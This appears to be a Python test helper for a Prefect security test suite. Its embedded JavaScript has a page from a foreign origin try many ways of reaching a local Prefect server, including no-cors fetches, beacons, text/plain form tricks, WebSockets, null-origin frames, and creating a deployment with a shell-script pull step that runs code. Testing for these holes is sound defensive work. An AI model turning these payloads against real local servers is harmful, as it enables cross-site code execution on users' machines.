"""A web page that tries to use a Prefect server of the machine it is looked at on, in every way a page has."""

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

from playwright.sync_api import Page, Response

from tests.browser_fixture import Seen

ELSEWHERE = "page.rebound.example"
"""A host name of a stranger that leads to this machine: tests.browser_fixture maps `*.rebound.example`."""

FETCHES = """async ([server, script]) => {
  // What came back of each attempt; an attempt that was stopped is not in it. Each writes under the name "kittens".
  const api = server + "/api", socket = api.replace("http", "ws"), got = {};
  const run = async (name, what) => {
    try { const answer = await what(); if (answer) got[name] = answer; } catch (error) { /* stopped */ }
  };
  const json = {"content-type": "application/json"};
  const post = (path, body) =>
    fetch(api + path, {method: "POST", headers: json, body: JSON.stringify(body)})
      .then(r => r.ok ? r.json() : Promise.reject(r.status));
  const variable = name => JSON.stringify({name: "kittens_" + name, value: "pwned"});
  const blind = (body, headers) =>
    fetch(api + "/variables/", {method: "POST", mode: "no-cors", body, headers}).then(() => "");
  const within = (ms, promise) =>
    Promise.race([promise, new Promise((_, no) => setTimeout(no, ms, "too late"))]);
  const framed = markup => within(4000, new Promise(done => {
    const frame = document.createElement("iframe");
    frame.onload = () => setTimeout(done, 500, "");
    Object.assign(frame, markup);
    document.body.append(frame);
  }));
  const dialled = (path, first, protocols) => within(4000, new Promise((yes, no) => {
    const line = new WebSocket(socket + path, protocols);
    line.onopen = () => { first.forEach(each => line.send(JSON.stringify(each))); setTimeout(yes, 1000, "open"); };
    line.onerror = line.onclose = no;
  }));
  const id = "00000000-0000-4000-8000-" + String(Date.now()).slice(-12);
  const resource = {"prefect.resource.id": "kittens"}, occurred = new Date().toISOString();
  const event = {id, occurred, resource, event: "kittens"};

  await run("deployment", async () => {
    const flow = await post("/flows/", {name: "kittens"});
    const made = await post("/deployments/", {
      name: "kittens", flow_id: flow.id, work_pool_name: "chaoslab", entrypoint: "flows.ad_hoc.ad_hoc",
      pull_steps: [{"prefect.deployments.steps.utility.run_shell_script": {script}}]});
    return (await post(`/deployments/${made.id}/create_flow_run`, {state: {type: "SCHEDULED"}})).id;
  });
  await run("read", () => post("/variables/filter", {}).then(found => "read " + found.length));
  await run("untyped body", () => blind(new Blob([variable("untyped")])));
  await run("text", () => blind(variable("text"), {"content-type": "text/plain"}));
  await run("beacon", async () => { navigator.sendBeacon(api + "/variables/", new Blob([variable("beacon")])); });
  await run("socket in", () => dialled("/events/in", [event]));
  await run("socket in, as Prefect's", () => dialled("/events/in", [{type: "auth", token: null}, event], ["prefect"]));
  await run("socket out", () => dialled("/events/out", [{type: "auth", token: null}], ["prefect"]));
  await run("worker's channel", () => dialled("/work_pools/chaoslab/workers/connect",
                                              [{type: "auth", token: null}], ["prefect"]));
  await run("event source", () => within(4000, new Promise((yes, no) => {
    const source = new EventSource(api + "/health");
    source.onopen = () => yes("open");
    source.onerror = () => { source.close(); no(); };
  })));
  await run("picture", () => within(4000, new Promise((yes, no) => {
    const picture = new Image();
    [picture.onload, picture.onerror] = [() => yes("drawn"), no];
    picture.src = api + "/static/prefect-logo-mark-gradient.png?" + Math.random();
  })));
  await run("script", () => within(4000, new Promise((yes, no) => {
    const tag = document.createElement("script");
    [tag.onload, tag.onerror] = [() => yes("run"), no];
    tag.src = server + "/ui-settings";
    document.head.append(tag);
  })));
  // A form's text/plain body is NAME=VALUE: put the equals sign inside of a string.
  const form = name => `<form method=post enctype=text/plain action="${api}/variables/">
    <input name='{"name": "kittens_${name}", "value": "' value='"}'></form>
    <script>document.forms[0].submit()</scr` + "ipt>";
  await run("form", () => framed({srcdoc: form("form")}));
  await run("frame", () => framed({src: server + "/dashboard"}));
  await run("origin null", () => framed({sandbox: "allow-scripts allow-forms", srcdoc:
    `<script>fetch("${api}/variables/", {method: "POST", mode: "no-cors",
       body: new Blob(['{"name": "kittens_null", "value": "pwned"}'])})</scr` + "ipt>" + form("null")}));
  return got;
}"""
"""Called with [the address of the server, what its worker is to run]; gives what came back, by attempt."""


@dataclass
class Attempts:
    """Everything that a page tries on that server, and how it was answered: path and status, where HTTP was spoken."""

    server: str
    script: str = "true"
    answers: list[tuple[str, int]] = field(default_factory=list)

    def made(self, page: Page, seen: Seen) -> dict[str, str]:
        """Make them from this page; what came back, by attempt."""
        page.on("response", self._answered)
        got: dict[str, str] = page.evaluate(FETCHES, [self.server, self.script])
        return got

    def _answered(self, response: Response) -> None:
        if response.url.startswith(self.server):
            self.answers.append((response.url.removeprefix(self.server), response.status))


@contextmanager
def stranger() -> Iterator[int]:
    """The port of a web server that has nothing to do with us, with one empty page."""

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = b"<!doctype html><title>kittens</title><body>"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Page) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port
        server.shutdown()
